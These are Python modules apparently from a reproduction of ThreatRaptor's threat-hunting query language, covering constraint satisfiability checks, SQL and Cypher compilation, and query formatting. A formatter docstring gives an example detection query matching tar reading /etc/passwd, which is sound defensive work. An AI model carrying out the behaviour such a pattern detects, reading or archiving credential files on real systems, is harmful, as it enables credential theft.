    if not longer.startswith(shorter):
        return True
    shorter, longer = sorted((first_suffix.lower(), second_suffix.lower()), key=len)
    return not longer.endswith(shorter)


@dataclass
class _Constraint:
    """One folded conjunctive constraint on an ``(identifier, attribute)``."""

    operator: FilterOperator
    value: Value
    span: SourceSpan | None
    like: bool


@dataclass
class _Domain:
    """All conjunctive constraints folded onto one ``(identifier, attribute)``."""

    constraints: list[_Constraint] = field(default_factory=list)

    def equalities(self) -> list[_Constraint]:
        return [c for c in self.constraints if c.operator is FilterOperator.EQ and not c.like]

    def exclusions(self) -> list[_Constraint]:
        return [c for c in self.constraints if c.operator is FilterOperator.NEQ and not c.like]

    def likes(self) -> list[_Constraint]:
        return [c for c in self.constraints if c.like and c.operator is not FilterOperator.NEQ]

    def not_likes(self) -> list[_Constraint]:
        return [c for c in self.constraints if c.like and c.operator is FilterOperator.NEQ]

    def bounds(self) -> list[_Constraint]:
        ordered = (
            FilterOperator.LT,
            FilterOperator.LTE,
            FilterOperator.GT,
            FilterOperator.GTE,
        )
        return [c for c in self.constraints if c.operator in ordered and not c.like]


def _has_disjunction(declaration: EntityDeclaration) -> bool:
    if declaration.filter is None:
        return False

    def walk(expression) -> bool:
        if expression.combinator == "or":
            return True
        return any(walk(child) for child in expression.children)

    return walk(declaration.filter)


def fold_domains(context: "AnalysisContext") -> dict[tuple[str, str], _Domain]:
    """Fold every pure-conjunctive filter into per-(identifier, attribute) domains.

    Entity identifier reuse means the declarations refer to the *same* entity,
    so constraints from every declaration of an identifier conjoin.  The same
    declaration object appearing in several patterns (as synthesis emits) is
    folded once.
    """
    domains: dict[tuple[str, str], _Domain] = {}
    seen_declarations: set[int] = set()
    for pattern in context.query.patterns:
        for declaration in (pattern.subject, pattern.obj):
            if declaration.filter is None or id(declaration) in seen_declarations:
                continue
            seen_declarations.add(id(declaration))
            if _has_disjunction(declaration):
                continue
            for comparison in declaration.filter.comparisons():
                attribute = comparison.attribute or context.default_attribute(
                    declaration.entity_type
                )
                domain = domains.setdefault((declaration.identifier, attribute), _Domain())
                domain.constraints.append(
                    _Constraint(
                        operator=comparison.operator,
                        value=comparison.value,
                        span=comparison.span,
                        like=is_like(comparison),
                    )
                )
    return domains


class SatisfiabilityPass:
    """Emits TR101–TR106."""

    name = "satisfiability"

    def run(self, context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        domains = fold_domains(context)
        for (identifier, attribute), domain in domains.items():
            diagnostics.extend(self._check_domain(identifier, attribute, domain))
        diagnostics.extend(self._check_windows(context))
        diagnostics.extend(self._check_temporal_cycle(context))
        diagnostics.extend(self._check_attribute_relations(context))
        return diagnostics

    # -- per-attribute domains ---------------------------------------------------

    def _check_domain(
        self, identifier: str, attribute: str, domain: _Domain
    ) -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        where = f"{identifier}.{attribute}"
        equalities = domain.equalities()

        # TR102: two different required values, or a required value that is
        # also excluded.
        for first, second in zip(equalities, equalities[1:]):
            if first.value != second.value:
                diagnostics.append(
                    Diagnostic(
                        rule="TR102",
                        severity=Severity.ERROR,
                        message=(
                            f"{where} must equal both {first.value!r} and "
                            f"{second.value!r}; no event can satisfy the filter"
                        ),
                        span=second.span or first.span,
                        hint="remove one of the conflicting equality filters",
                    )
                )
        for excluded in domain.exclusions():
            for equal in equalities:
                if equal.value == excluded.value:
                    diagnostics.append(
                        Diagnostic(
                            rule="TR102",
                            severity=Severity.ERROR,
                            message=(
                                f"{where} is required to equal {equal.value!r} "
                                f"but also to differ from it"
                            ),
                            span=excluded.span or equal.span,
                            hint="drop either the equality or the exclusion",
                        )
                    )

        # TR101: contradictory ordered bounds, or an equality outside them.
        diagnostics.extend(self._check_bounds(where, domain, equalities))

        # TR103: LIKE patterns that cannot all match, or that exclude a
        # required equality value.
        diagnostics.extend(self._check_likes(where, domain, equalities))
        return diagnostics

    @staticmethod
    def _check_bounds(
        where: str, domain: _Domain, equalities: list[_Constraint]
    ) -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        lower: _Constraint | None = None  # strongest "greater than" constraint
        upper: _Constraint | None = None  # strongest "less than" constraint
        for constraint in domain.bounds():
            if constraint.operator in (FilterOperator.GT, FilterOperator.GTE):
                if lower is None or _tighter_lower(constraint, lower):
                    lower = constraint
            else:
                if upper is None or _tighter_upper(constraint, upper):
                    upper = constraint
        if lower is not None and upper is not None:
            try:
                empty = lower.value > upper.value or (
                    lower.value == upper.value
                    and (
                        lower.operator is FilterOperator.GT
                        or upper.operator is FilterOperator.LT
                    )
                )
            except TypeError:
                empty = False
            if empty:
                diagnostics.append(
                    Diagnostic(
                        rule="TR101",
                        severity=Severity.ERROR,
                        message=(
                            f"{where} is constrained to the empty range "
                            f"{lower.operator.value} {lower.value!r} and "
                            f"{upper.operator.value} {upper.value!r}"
                        ),
                        span=upper.span or lower.span,
                        hint="widen or remove one of the range bounds",
                    )
                )
        for equal in equalities:
            for bound in (lower, upper):
                if bound is None:
                    continue
                try:
                    satisfied = _bound_satisfied(equal.value, bound)
                except TypeError:
                    continue
                if not satisfied:
                    diagnostics.append(
                        Diagnostic(
                            rule="TR101",
                            severity=Severity.ERROR,
                            message=(
                                f"{where} = {equal.value!r} violates the bound "
                                f"{bound.operator.value} {bound.value!r}"
                            ),
                            span=equal.span or bound.span,
                            hint="align the equality with the range bound",
                        )
                    )
        return diagnostics

    @staticmethod
    def _check_likes(
        where: str, domain: _Domain, equalities: list[_Constraint]
    ) -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        likes = domain.likes()
        for constraint in likes:
            if constraint.value == "":
                diagnostics.append(
                    Diagnostic(
                        rule="TR103",
                        severity=Severity.ERROR,
                        message=(
                            f"{where} is matched against an empty LIKE pattern, "
                            "which no stored attribute value matches"
                        ),
                        span=constraint.span,
                        hint="supply a non-empty pattern such as '%name%'",
                    )
                )
        for equal in equalities:
            if not isinstance(equal.value, str):
                continue
            for constraint in likes:
                if not like_matches(str(constraint.value), equal.value):
                    diagnostics.append(
                        Diagnostic(
                            rule="TR103",
                            severity=Severity.ERROR,
                            message=(
                                f"{where} = {equal.value!r} can never match the "
                                f"required LIKE pattern {constraint.value!r}"
                            ),
                            span=equal.span or constraint.span,
                            hint="make the equality value match the pattern",
                        )
                    )
            for constraint in domain.not_likes():
                if like_matches(str(constraint.value), equal.value):
                    diagnostics.append(
                        Diagnostic(
                            rule="TR103",
                            severity=Severity.ERROR,
                            message=(
                                f"{where} = {equal.value!r} is excluded by the "
                                f"negated LIKE pattern {constraint.value!r}"
                            ),
                            span=equal.span or constraint.span,
                            hint="drop either the equality or the exclusion",
                        )
                    )
        for index, first in enumerate(likes):
            for second in likes[index + 1 :]:
                if likes_are_disjoint(str(first.value), str(second.value)):
                    diagnostics.append(
                        Diagnostic(
                            rule="TR103",
                            severity=Severity.ERROR,
                            message=(
                                f"{where} cannot match both LIKE patterns "
                                f"{first.value!r} and {second.value!r}"
                            ),
                            span=second.span or first.span,
                            hint="the patterns have incompatible anchored text",
                        )
                    )
        return diagnostics

    # -- windows and temporal graph ----------------------------------------------

    @staticmethod
    def _check_windows(context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        for pattern in context.query.patterns:
            window = pattern.window
            if window is not None and window.end < window.start:
                diagnostics.append(
                    Diagnostic(
                        rule="TR105",
                        severity=Severity.ERROR,
                        message=(
                            f"event {pattern.event_id!r}: time window "
                            f"[{window.start}, {window.end}] is empty"
                        ),
                        span=pattern.span,
                        event_id=pattern.event_id,
                        hint="a window's end must not precede its start",
                    )
                )
        for relation in before_edges(context.query):
            earlier = context.query.pattern_by_event_id(relation.left)
            later = context.query.pattern_by_event_id(relation.right)
            if earlier is None or later is None:
                continue
            if earlier.window is None or later.window is None:
                continue
            # `left before right` needs left.endtime <= right.starttime, but
            # windows bound each pattern's starttime: left starts at or after
            # its window's start, so left cannot end before it either.
            if earlier.window.start > later.window.end:
                diagnostics.append(
                    Diagnostic(
                        rule="TR105",
                        severity=Severity.ERROR,
                        message=(
                            f"{relation.left!r} is ordered before {relation.right!r} "
                            f"but its window starts at {earlier.window.start}, after "
                            f"{relation.right!r}'s window ends at {later.window.end}"
                        ),
                        span=relation.span,
                        event_id=relation.left,
                        hint="the windows contradict the declared event ordering",
                    )
                )
        return diagnostics

    @staticmethod
    def _check_temporal_cycle(context: "AnalysisContext") -> list[Diagnostic]:
        cycle = temporal_cycle(context.query)
        if cycle is None:
            return []
        edges = {(relation.left, relation.right) for relation in before_edges(context.query)}
        span = None
        for relation in context.query.temporal_relations:
            normalized = relation.normalized()
            if (normalized.left, normalized.right) in edges and normalized.left in cycle:
                span = relation.span
                break
        return [
            Diagnostic(
                rule="TR104",
                severity=Severity.ERROR,
                message=(
                    "temporal relations form a cycle "
                    f"({' -> '.join(cycle)}); the ordering is contradictory"
                ),
                span=span,
                event_id=cycle[0],
                hint="remove one relation to break the cycle",
            )
        ]

    # -- attribute relations -------------------------------------------------------

    @staticmethod
    def _check_attribute_relations(context: "AnalysisContext") -> list[Diagnostic]:
        diagnostics: list[Diagnostic] = []
        irreflexive = (FilterOperator.NEQ, FilterOperator.LT, FilterOperator.GT)
        grouped: dict[tuple[str, str, str, str], list[tuple[FilterOperator, object]]] = {}
        for relation in context.query.attribute_relations:
            left = (relation.left_event, relation.left_attribute)
            right = (relation.right_event, relation.right_attribute)
            if left == right:
                if relation.operator in irreflexive:
                    diagnostics.append(
                        Diagnostic(
                            rule="TR106",
                            severity=Severity.ERROR,
                            message=(
                                f"{relation.left_event}.{relation.left_attribute} "
                                f"{relation.operator.value} itself can never hold"
                            ),
                            span=relation.span,
                            event_id=relation.left_event,
                            hint="a value always equals itself",
                        )
                    )
                continue
            if left <= right:
                key = left + right
                operator = relation.operator
            else:
                key = right + left
                operator = _FLIPPED[relation.operator]
            grouped.setdefault(key, []).append((operator, relation))
        for key, entries in grouped.items():
            operators = {operator for operator, _ in entries}
            for pair in _CONTRADICTORY_OPERATOR_PAIRS:
                if pair <= operators:
                    first, second = sorted(pair, key=lambda op: op.value)
                    anchor = entries[-1][1]
                    diagnostics.append(
                        Diagnostic(
                            rule="TR106",
                            severity=Severity.ERROR,
                            message=(
                                f"{key[0]}.{key[1]} is related to {key[2]}.{key[3]} "
                                f"by both {first.value!r} and {second.value!r}; the "
                                "relations are contradictory"
                            ),
                            span=anchor.span,
                            event_id=key[0],
                            hint="keep only one of the conflicting relations",
                        )
                    )
                    break
        return diagnostics


def _tighter_lower(candidate: _Constraint, current: _Constraint) -> bool:
    try:
        if candidate.value != current.value:
            return bool(candidate.value > current.value)
    except TypeError:
        return False
    return (
        candidate.operator is FilterOperator.GT and current.operator is FilterOperator.GTE
    )


def _tighter_upper(candidate: _Constraint, current: _Constraint) -> bool:
    try:
        if candidate.value != current.value:
            return bool(candidate.value < current.value)
    except TypeError:
        return False
    return (
        candidate.operator is FilterOperator.LT and current.operator is FilterOperator.LTE
    )


def _bound_satisfied(value: Value, bound: _Constraint) -> bool:
    if bound.operator is FilterOperator.GT:
        return value > bound.value
    if bound.operator is FilterOperator.GTE:
        return value >= bound.value
    if bound.operator is FilterOperator.LT:
        return value < bound.value
    return value <= bound.value
