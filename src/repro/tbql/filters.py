"""Bridging TBQL attribute filters to backend predicate representations.

TBQL entity filters are small boolean expressions over entity attributes with
SQL-LIKE wildcard semantics for string literals that contain ``%`` or ``_``.
The SQL compiler needs them as relational
:class:`~repro.storage.relational.expression.Expression` objects; the Cypher
compiler needs them as Python predicates over a node's property dict.  Both
conversions live here so the semantics stay identical across backends.
"""

from __future__ import annotations

from typing import Any, Callable, Mapping

from repro.auditing.entities import DEFAULT_ATTRIBUTE, EntityType
from repro.storage.relational.database import ENTITY_SCHEMA, EVENT_SCHEMA
from repro.storage.relational.expression import (
    Column,
    Comparison,
    Expression,
    Like,
    Literal,
    TrueExpression,
    conjoin,
)
from repro.storage.relational.expression import And as RelationalAnd
from repro.storage.relational.expression import Or as RelationalOr
from repro.tbql.ast import AttributeComparison, FilterExpression, FilterOperator


def _is_wildcard(value: Any) -> bool:
    return isinstance(value, str) and ("%" in value or "_" in value)


#: Columns declared with an ``int`` dtype in the audit schema.  String
#: literals compared against these are coerced to typed (integer) literals so
#: the comparison is numeric everywhere: the in-memory engines would
#: otherwise fall back to lexicographic string comparison while sqlite
#: applies INTEGER column affinity — two different answers for ``pid > "9"``.
_NUMERIC_COLUMNS = frozenset(
    column.name
    for schema in (ENTITY_SCHEMA, EVENT_SCHEMA)
    for column in schema.columns
    if column.dtype is int
)


def _typed_literal(attribute: str, value: Any) -> Any:
    if attribute in _NUMERIC_COLUMNS and isinstance(value, str):
        try:
            return int(value)
        except ValueError:
            return value
    return value


def comparison_to_expression(
    comparison: AttributeComparison, entity_type: EntityType
) -> Expression:
    """Convert one TBQL attribute comparison to a relational expression."""
    attribute = comparison.attribute or DEFAULT_ATTRIBUTE[entity_type]
    column = Column(attribute)
    value = comparison.value
    if comparison.operator is FilterOperator.LIKE or _is_wildcard(value):
        negate = comparison.operator is FilterOperator.NEQ
        return Like(operand=column, pattern=str(value), negate=negate)
    operator = comparison.operator.value
    return Comparison(
        left=column, operator=operator, right=Literal(_typed_literal(attribute, value))
    )


def filter_to_expression(
    expression: FilterExpression | None, entity_type: EntityType
) -> Expression:
    """Convert a TBQL filter expression tree to a relational expression.

    ``None`` (no filter) converts to the always-true expression.
    """
    if expression is None:
        return TrueExpression()
    if expression.comparison is not None:
        return comparison_to_expression(expression.comparison, entity_type)
    children = [filter_to_expression(child, entity_type) for child in expression.children]
    if expression.combinator == "or":
        return RelationalOr(children)
    return conjoin(children) if len(children) != 1 else children[0]


def filter_to_predicate(
    expression: FilterExpression | None, entity_type: EntityType
) -> Callable[[Mapping[str, Any]], bool]:
    """Convert a TBQL filter to a predicate over a property mapping.

    Used by the Cypher/graph compiler, whose node patterns take Python
    callables instead of relational expressions.
    """
    relational = filter_to_expression(expression, entity_type)

    def predicate(properties: Mapping[str, Any]) -> bool:
        try:
            return bool(relational.evaluate(properties))
        except Exception:
            # Missing attribute on the node: the filter cannot match.
            return False

    return predicate


def constraint_count(expression: FilterExpression | None) -> int:
    """Number of leaf comparisons in a filter (used by the pruning score)."""
    if expression is None:
        return 0
    return len(expression.comparisons())


__all__ = [
    "comparison_to_expression",
    "constraint_count",
    "filter_to_expression",
    "filter_to_predicate",
]
