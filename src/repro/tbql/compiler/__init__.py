"""TBQL pattern compilers: SQL (relational backend) and Cypher (graph backend)."""

from repro.tbql.compiler.cypher_compiler import CompiledPathPattern, CypherCompiler
from repro.tbql.compiler.sql_compiler import (
    EVENT_ALIAS,
    OBJECT_ALIAS,
    SUBJECT_ALIAS,
    CompiledEventPattern,
    SQLCompiler,
)

__all__ = [
    "CompiledEventPattern",
    "CompiledPathPattern",
    "CypherCompiler",
    "EVENT_ALIAS",
    "OBJECT_ALIAS",
    "SQLCompiler",
    "SUBJECT_ALIAS",
]
