"""Compilation of TBQL path patterns into graph data queries.

"For a variable-length event path pattern, since it is difficult to perform
graph pattern search using SQL, ThreatRaptor compiles it into a Cypher data
query by leveraging Cypher's path pattern syntax" (Section II-F).  The
compiler produces a :class:`~repro.storage.graph.pattern.PathPattern` for the
graph backend, together with the Cypher text rendering used by the CLI and
the conciseness experiment.

Single-hop event patterns can also be compiled for the graph backend (used by
the single-backend comparison in EXP-QUERY-LAT).
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Iterable

from repro.auditing.entities import EntityType
from repro.auditing.events import event_type_for_object
from repro.storage.graph.cypher import render_path_pattern
from repro.storage.graph.model import Edge, Node
from repro.storage.graph.pattern import EdgePattern, NodePattern
from repro.storage.graph.pattern import PathPattern as GraphPathPattern
from repro.tbql.ast import EventPattern, PathPattern, TimeWindow
from repro.tbql.filters import filter_to_predicate

_LABELS = {
    EntityType.PROCESS: "process",
    EntityType.FILE: "file",
    EntityType.NETWORK: "network",
}


@dataclass(frozen=True)
class CompiledPathPattern:
    """The compiled form of one (path or event) pattern for the graph backend."""

    event_id: str
    graph_pattern: GraphPathPattern
    cypher_text: str


class CypherCompiler:
    """Compiles TBQL patterns into graph path patterns plus Cypher text."""

    def compile_path(
        self,
        pattern: PathPattern,
        subject_id_constraint: Iterable[int] | None = None,
        object_id_constraint: Iterable[int] | None = None,
    ) -> CompiledPathPattern:
        """Compile a variable-length path pattern."""
        graph_pattern = GraphPathPattern(
            source=self._node_pattern(
                pattern.subject.entity_type, pattern.subject.filter, subject_id_constraint
            ),
            target=self._node_pattern(
                pattern.obj.entity_type, pattern.obj.filter, object_id_constraint
            ),
            final_edge=self._edge_pattern(pattern.operation.operations, pattern.window),
            min_length=pattern.min_length,
            max_length=pattern.max_length,
        )
        return CompiledPathPattern(
            event_id=pattern.event_id,
            graph_pattern=graph_pattern,
            cypher_text=render_path_pattern(graph_pattern),
        )

    def compile_event(
        self,
        pattern: EventPattern,
        subject_id_constraint: Iterable[int] | None = None,
        object_id_constraint: Iterable[int] | None = None,
    ) -> CompiledPathPattern:
        """Compile a single-hop event pattern for the graph backend."""
        graph_pattern = GraphPathPattern(
            source=self._node_pattern(
                pattern.subject.entity_type, pattern.subject.filter, subject_id_constraint
            ),
            target=self._node_pattern(
                pattern.obj.entity_type, pattern.obj.filter, object_id_constraint
            ),
            final_edge=self._edge_pattern(pattern.operation.operations, pattern.window),
            min_length=1,
            max_length=1,
        )
        return CompiledPathPattern(
            event_id=pattern.event_id,
            graph_pattern=graph_pattern,
            cypher_text=render_path_pattern(graph_pattern),
        )

    # -- pattern pieces --------------------------------------------------------------

    def _node_pattern(
        self,
        entity_type: EntityType,
        filter_expression,
        id_constraint: Iterable[int] | None,
    ) -> NodePattern:
        """Entity-id constraints are declared on the pattern, not folded into
        the predicate, so prepared plans can cache the compiled (filter-only)
        pattern and attach per-execution ids, and the cost-guided planner can
        read the constraint's cardinality."""
        predicate: Callable[[Node], bool] | None = None
        if filter_expression is not None:
            property_predicate = filter_to_predicate(filter_expression, entity_type)

            def node_matches(node: Node) -> bool:
                return property_predicate(node.properties)

            predicate = node_matches
        return NodePattern(
            label=_LABELS[entity_type],
            predicate=predicate,
            allowed_ids=frozenset(id_constraint) if id_constraint is not None else None,
        )

    @staticmethod
    def _edge_pattern(operations: tuple[str, ...], window: TimeWindow | None) -> EdgePattern:
        """The time window is likewise declarative (see ``EdgePattern.window``)
        so the planner can seed the search from the graph's time index."""
        relationship = operations[0] if len(operations) == 1 else None
        predicate: Callable[[Edge], bool] | None = None
        if len(operations) > 1:
            allowed = frozenset(operations)

            def edge_matches(edge: Edge) -> bool:
                return edge.relationship in allowed

            predicate = edge_matches
        return EdgePattern(
            relationship=relationship,
            predicate=predicate,
            window=(window.start, window.end) if window is not None else None,
        )
