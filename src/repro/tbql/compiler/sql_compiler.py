"""Compilation of TBQL event patterns into relational data queries.

"For an event pattern, ThreatRaptor compiles it into a SQL data query which
joins entity tables with event table" (Section II-F).  The compiler emits a
:class:`~repro.storage.relational.query.SelectQuery` with three aliases —
``e`` (events), ``s`` (subject entities) and ``o`` (object entities) — joined
on ``e.srcid = s.id`` and ``e.dstid = o.id``, and pushes the entity attribute
filters, the operation filter, the event-type filter and the optional time
window down onto the respective aliases.

Extra equality/membership constraints produced by the execution scheduler
(binding the entity ids found by an earlier, more selective pattern) are
passed through ``subject_id_constraint`` / ``object_id_constraint``.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Iterable

from repro.auditing.entities import ENTITY_ATTRIBUTES, EntityType
from repro.auditing.events import event_type_for_object
from repro.storage.relational.expression import Column, Comparison, InList, Literal
from repro.storage.relational.expression import Between
from repro.storage.relational.query import SelectQuery
from repro.tbql.ast import EventPattern
from repro.tbql.filters import filter_to_expression

#: Alias names used for the three joined tables.
EVENT_ALIAS = "e"
SUBJECT_ALIAS = "s"
OBJECT_ALIAS = "o"


@dataclass(frozen=True)
class CompiledEventPattern:
    """The compiled form of one event pattern."""

    pattern: EventPattern
    query: SelectQuery

    @property
    def event_id(self) -> str:
        return self.pattern.event_id


class SQLCompiler:
    """Compiles TBQL event patterns into relational select-project-join queries."""

    def compile(
        self,
        pattern: EventPattern,
        subject_id_constraint: Iterable[int] | None = None,
        object_id_constraint: Iterable[int] | None = None,
    ) -> CompiledEventPattern:
        """Compile ``pattern`` into a relational query.

        Args:
            pattern: The event pattern to compile.
            subject_id_constraint: Optional set of entity ids the subject must
                be one of (added by the scheduler from earlier results).
            object_id_constraint: Same for the object entity.
        """
        query = SelectQuery()
        query.add_table("events", EVENT_ALIAS)
        query.add_table("entities", SUBJECT_ALIAS)
        query.add_table("entities", OBJECT_ALIAS)
        query.add_join(EVENT_ALIAS, "srcid", SUBJECT_ALIAS, "id")
        query.add_join(EVENT_ALIAS, "dstid", OBJECT_ALIAS, "id")

        self._add_event_filters(query, pattern)
        self._add_entity_filters(query, SUBJECT_ALIAS, pattern.subject.entity_type, pattern)
        self._add_entity_filters(query, OBJECT_ALIAS, pattern.obj.entity_type, pattern, is_object=True)

        # Entity-id constraints propagated by the scheduler from earlier,
        # more selective patterns.  They are applied both on the entity alias
        # and on the event table's foreign-key columns so the planner can use
        # the events.srcid / events.dstid indexes directly.
        if subject_id_constraint is not None:
            ids = tuple(sorted(set(subject_id_constraint)))
            query.add_filter(SUBJECT_ALIAS, InList(Column("id"), ids))
            query.add_filter(EVENT_ALIAS, InList(Column("srcid"), ids))
        if object_id_constraint is not None:
            ids = tuple(sorted(set(object_id_constraint)))
            query.add_filter(OBJECT_ALIAS, InList(Column("id"), ids))
            query.add_filter(EVENT_ALIAS, InList(Column("dstid"), ids))

        self._add_projection(query, pattern)
        return CompiledEventPattern(pattern=pattern, query=query)

    # -- filter construction -------------------------------------------------------

    def _add_event_filters(self, query: SelectQuery, pattern: EventPattern) -> None:
        operations = tuple(pattern.operation.operations)
        if len(operations) == 1 and not pattern.operation.negated:
            query.add_filter(
                EVENT_ALIAS, Comparison(Column("optype"), "=", Literal(operations[0]))
            )
        else:
            query.add_filter(
                EVENT_ALIAS,
                InList(Column("optype"), operations, negate=pattern.operation.negated),
            )
        event_type = event_type_for_object(pattern.obj.entity_type)
        query.add_filter(
            EVENT_ALIAS, Comparison(Column("eventtype"), "=", Literal(event_type.value))
        )
        if pattern.window is not None:
            query.add_filter(
                EVENT_ALIAS, Between(Column("starttime"), pattern.window.start, pattern.window.end)
            )

    def _add_entity_filters(
        self,
        query: SelectQuery,
        alias: str,
        entity_type: EntityType,
        pattern: EventPattern,
        is_object: bool = False,
    ) -> None:
        query.add_filter(alias, Comparison(Column("type"), "=", Literal(entity_type.value)))
        declaration = pattern.obj if is_object else pattern.subject
        if declaration.filter is not None:
            query.add_filter(alias, filter_to_expression(declaration.filter, entity_type))

    # -- projection -------------------------------------------------------------------

    def _add_projection(self, query: SelectQuery, pattern: EventPattern) -> None:
        for column in ("id", "srcid", "dstid", "optype", "starttime", "endtime", "amount"):
            query.add_output(EVENT_ALIAS, column, name=f"event.{column}")
        for alias, declaration in ((SUBJECT_ALIAS, pattern.subject), (OBJECT_ALIAS, pattern.obj)):
            prefix = "subject" if alias == SUBJECT_ALIAS else "object"
            query.add_output(alias, "id", name=f"{prefix}.id")
            query.add_output(alias, "type", name=f"{prefix}.type")
            for attribute in ENTITY_ATTRIBUTES[declaration.entity_type]:
                query.add_output(alias, attribute, name=f"{prefix}.{attribute}")
