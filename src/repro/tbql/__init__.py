"""TBQL: the Threat Behavior Query Language (parser, synthesis, execution)."""

from repro.tbql.ast import (
    AttributeComparison,
    AttributeRelation,
    EntityDeclaration,
    EventPattern,
    FilterExpression,
    FilterOperator,
    OperationExpression,
    PathPattern,
    Query,
    ReturnItem,
    TemporalRelation,
    TimeWindow,
)
from repro.tbql.canonical import canonical_query_key, canonicalize_query
from repro.tbql.executor import TBQLExecutionEngine, execute_query
from repro.tbql.formatter import format_pattern, format_query
from repro.tbql.prepared import PreparedQuery
from repro.tbql.lexer import Lexer, TBQLToken, TokenType, tokenize
from repro.tbql.parser import Parser, parse_query
from repro.tbql.result import TBQLResult
from repro.tbql.scheduler import ExecutionScheduler, ScheduledPattern, pruning_score
from repro.tbql.semantics import AnalyzedQuery, SemanticAnalyzer, analyze
from repro.tbql.synthesis import (
    AUDITABLE_IOC_TYPES,
    QuerySynthesizer,
    SynthesisPlan,
    SynthesisReport,
)

__all__ = [
    "AUDITABLE_IOC_TYPES",
    "AnalyzedQuery",
    "AttributeComparison",
    "AttributeRelation",
    "EntityDeclaration",
    "EventPattern",
    "ExecutionScheduler",
    "FilterExpression",
    "FilterOperator",
    "Lexer",
    "OperationExpression",
    "Parser",
    "PathPattern",
    "PreparedQuery",
    "Query",
    "QuerySynthesizer",
    "ReturnItem",
    "ScheduledPattern",
    "SemanticAnalyzer",
    "SynthesisPlan",
    "SynthesisReport",
    "TBQLExecutionEngine",
    "TBQLResult",
    "TBQLToken",
    "TemporalRelation",
    "TimeWindow",
    "TokenType",
    "analyze",
    "canonical_query_key",
    "canonicalize_query",
    "execute_query",
    "format_pattern",
    "format_query",
    "parse_query",
    "pruning_score",
    "tokenize",
]
