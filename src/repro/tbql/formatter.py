"""Rendering TBQL query ASTs back into TBQL source text.

Synthesized queries are shown to the analyst (and measured in the
query-conciseness experiment), so the formatter produces text in the paper's
style::

    proc p1["%/bin/tar%"] read file f1["%/etc/passwd%"] as evt1
    ...
    with evt1 before evt2, evt2 before evt3
    return distinct p1, f1, ...

The output round-trips: ``parse_query(format_query(q))`` yields an equivalent
query, which the tests verify.
"""

from __future__ import annotations

from repro.auditing.entities import EntityType
from repro.tbql.ast import (
    AttributeComparison,
    EntityDeclaration,
    EventPattern,
    FilterExpression,
    FilterOperator,
    PathPattern,
    Query,
)

_TYPE_KEYWORDS = {
    EntityType.PROCESS: "proc",
    EntityType.FILE: "file",
    EntityType.NETWORK: "ip",
}


def _format_value(value: object) -> str:
    if isinstance(value, str):
        # Backslash first: the lexer unescapes ``\x`` to ``x``, so a bare
        # backslash (e.g. a LIKE escape) must round-trip as ``\\``.
        escaped = value.replace("\\", "\\\\").replace('"', '\\"')
        return f'"{escaped}"'
    return str(value)


def _format_comparison(comparison: AttributeComparison) -> str:
    value = _format_value(comparison.value)
    if not comparison.attribute and comparison.operator in (FilterOperator.EQ, FilterOperator.LIKE):
        # Default-attribute shorthand: just the literal, as in p1["%/bin/tar%"].
        # (The grammar has no attribute-less `like`; execution treats wildcard
        # values as patterns either way, so the shorthand loses nothing.)
        return value
    # `like` is a keyword operator and must round-trip as itself: rendering it
    # as `=` would turn a wildcard-free pattern into an exact match.
    operator = comparison.operator.value
    attribute = comparison.attribute
    if not attribute:
        return f"{operator} {value}" if operator != "=" else value
    return f"{attribute} {operator} {value}"


def _format_filter(expression: FilterExpression) -> str:
    if expression.comparison is not None:
        return _format_comparison(expression.comparison)
    connector = f" {expression.combinator} "
    return connector.join(_format_filter(child) for child in expression.children)


def _format_entity(declaration: EntityDeclaration) -> str:
    rendered = f"{_TYPE_KEYWORDS[declaration.entity_type]} {declaration.identifier}"
    if declaration.filter is not None:
        rendered += f"[{_format_filter(declaration.filter)}]"
    return rendered


def _format_operation(pattern: EventPattern | PathPattern) -> str:
    names = " or ".join(pattern.operation.operations)
    if pattern.operation.negated:
        names = f"not {names}"
    return names


def format_pattern(pattern: EventPattern | PathPattern) -> str:
    """Render one pattern as a TBQL statement line (without trailing newline)."""
    subject = _format_entity(pattern.subject)
    obj = _format_entity(pattern.obj)
    if isinstance(pattern, PathPattern):
        length = ""
        if (pattern.min_length, pattern.max_length) != (1, 5):
            length = f"({pattern.min_length}~{pattern.max_length})"
        core = f"{subject} ~>{length}[{_format_operation(pattern)}] {obj}"
    else:
        core = f"{subject} {_format_operation(pattern)} {obj}"
    line = f"{core} as {pattern.event_id}"
    if pattern.window is not None:
        line += f" during ({pattern.window.start}, {pattern.window.end})"
    return line


def format_query(query: Query) -> str:
    """Render a full query as TBQL source text."""
    lines = [format_pattern(pattern) for pattern in query.patterns]

    relations: list[str] = []
    relations.extend(
        f"{relation.left} {relation.relation} {relation.right}"
        for relation in query.temporal_relations
    )
    relations.extend(
        f"{relation.left_event}.{relation.left_attribute} {relation.operator.value} "
        f"{relation.right_event}.{relation.right_attribute}"
        for relation in query.attribute_relations
    )
    if relations:
        lines.append("with " + ", ".join(relations))

    items = ", ".join(
        item.identifier if not item.attribute else f"{item.identifier}.{item.attribute}"
        for item in query.return_items
    )
    keyword = "return distinct" if query.distinct else "return"
    lines.append(f"{keyword} {items}")
    return "\n".join(lines)


def count_query_lines(tbql_text: str) -> int:
    """Count non-blank lines of a rendered TBQL query (for EXP-SYNTH)."""
    return sum(1 for line in tbql_text.splitlines() if line.strip())
