"""Result objects returned by the TBQL execution engine."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Iterable


@dataclass
class TBQLResult:
    """The outcome of executing one TBQL query.

    Attributes:
        columns: Output column names in return-clause order (e.g.
            ``("p1.exename", "f1.name")``).
        rows: Result rows aligned with ``columns``.
        matched_event_ids: Ids of every audit event matched by any surviving
            binding, grouped by the TBQL event identifier.  The hunting
            benchmarks compare these against attack ground truth.
        bindings: The complete surviving variable bindings (entity identifier →
            entity row, event identifier → event row) before projection.
        statistics: Engine counters (per-pattern candidate counts, scheduling
            order, execution timings).
    """

    columns: tuple[str, ...] = ()
    rows: tuple[tuple[Any, ...], ...] = ()
    matched_event_ids: dict[str, set[int]] = field(default_factory=dict)
    bindings: list[dict[str, dict[str, Any]]] = field(default_factory=list)
    statistics: dict[str, Any] = field(default_factory=dict)

    def __len__(self) -> int:
        return len(self.rows)

    def __bool__(self) -> bool:
        return bool(self.rows)

